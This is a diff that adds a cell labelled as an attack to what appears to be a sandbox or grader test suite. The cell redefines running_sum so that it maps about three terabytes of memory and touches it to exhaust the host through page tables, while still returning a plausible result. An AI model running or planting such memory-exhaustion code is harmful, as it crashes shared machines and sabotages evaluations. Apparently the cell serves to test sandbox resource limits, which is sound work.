@@ -80,3 +80,26 @@ def running_sum(x):
         except RecursionError:
             continue
     return result
+
+# %% [attack] fills_memory_with_page_tables
+# Reads a byte of each two megabytes of three terabytes, which takes no page but the tables of pages.
+# seconds: 30
+import ctypes
+import time
+
+libc = ctypes.CDLL(None, use_errno=True)
+libc.mmap.restype = ctypes.c_void_p
+libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
+
+def running_sum(x):
+    size = 0
+    for _ in range(3072):
+        place = libc.mmap(None, 1 << 30, 1, 0x4022, -1, 0)
+        if place in (None, ctypes.c_void_p(-1).value):
+            break
+        libc.madvise(ctypes.c_void_p(place), ctypes.c_size_t(1 << 30), 15)
+        for k in range(512):
+            ctypes.string_at(place + (k << 21), 1)
+        size += 512 * 4096
+    time.sleep(1)
+    return np.cumsum(x, axis=0) if size > 1 << 30 else x
